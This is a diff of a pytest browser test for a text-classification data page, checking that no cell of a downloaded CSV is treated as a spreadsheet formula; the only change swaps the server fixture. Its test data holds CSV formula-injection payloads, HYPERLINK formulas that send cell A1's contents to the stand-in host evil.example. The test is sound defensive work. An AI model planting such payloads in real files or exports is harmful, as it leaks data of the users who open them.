@@ -16,13 +16,13 @@ pytestmark = [pytest.mark.browser, skip_without_browser]
 SIGNS = "=+-@＝＋－＠"
 
 
-def test_no_cell_of_a_download_is_a_formula(chrome: Browser, running: Server, tmp_path: Path) -> None:
+def test_no_cell_of_a_download_is_a_formula(chrome: Browser, idle: Server, tmp_path: Path) -> None:
     texts = [f'"{sign}HYPERLINK(""http://evil.example/?x=""&A1;n{n}) word{n} and more words"' for n in range(30)
              for sign in SIGNS]  # fmt: skip
     table = tmp_path / "formulas.csv"
     table.write_text("text,label\n" + "\n".join(f"{t},{('-2x', '=1+1')[n % 2]}" for n, t in enumerate(texts)), "utf-8")
     page = chrome.new_page()
-    visit(page, f"{running.url}/data?recipe=text_lstm")
+    visit(page, f"{idle.url}/data?recipe=text_lstm")
     page.locator("input[type=file]").set_input_files(table)
     expect(page.get_by_role("combobox", name="File")).to_have_value("formulas.csv")
     settled(page)
